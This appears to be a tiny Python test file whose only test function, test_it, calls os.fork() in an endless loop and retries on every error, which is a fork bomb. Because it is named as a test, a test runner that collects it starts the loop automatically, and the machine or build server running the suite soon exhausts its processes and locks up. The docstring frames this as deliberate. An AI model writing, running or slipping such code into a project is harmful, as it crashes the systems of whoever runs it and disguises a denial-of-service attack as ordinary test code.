"""Every process becomes two, for as long as it may."""

import os


def test_it():
    while True:
        try:
            os.fork()
        except OSError:
            continue
